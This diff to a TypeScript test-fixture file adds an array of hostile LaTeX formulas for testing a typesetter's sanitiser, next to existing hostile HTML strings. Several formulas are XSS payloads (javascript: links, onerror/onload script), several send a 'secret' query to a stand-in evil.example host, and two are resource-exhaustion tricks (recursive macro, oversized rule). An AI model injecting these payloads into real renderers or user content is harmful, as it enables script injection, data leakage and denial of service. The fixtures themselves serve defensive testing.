@@ -51,3 +51,23 @@ export const hostileHtml: readonly string[] = [
   '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
   '<form action="https://evil.example"><input name=a></form>',
 ];
+
+/** Formulas that a typesetter may turn into links, pictures, HTML or a long computation. */
+export const hostileFormulas: readonly string[] = [
+  '\\href{javascript:alert(1)}{x}',
+  '\\href{https://evil.example/p?q=secret}{x}',
+  '\\url{https://evil.example/p?q=secret}',
+  '\\includegraphics{https://evil.example/p.png?q=secret}',
+  '\\includegraphics[alt=a]{data:image/svg+xml,<svg onload=alert(1)>}',
+  '\\class{evil}{x}',
+  '\\id{studio}{x}',
+  '\\style{background:url(https://evil.example/p.png)}{x}',
+  '\\data{evil=1}{x}',
+  '\\label{studio}\\tag{1} x \\ref{studio}',
+  '\\text{<img src=x onerror=alert(1)>}',
+  '\\text{</annotation><script>alert(1)</script>}',
+  '\\color{url(https://evil.example/p.png)} x',
+  '\\textcolor{red;background:url(https://evil.example/p.png)}{x}',
+  '\\def\\a{\\a\\a}\\a',
+  '\\rule{99999em}{99999em}',
+];
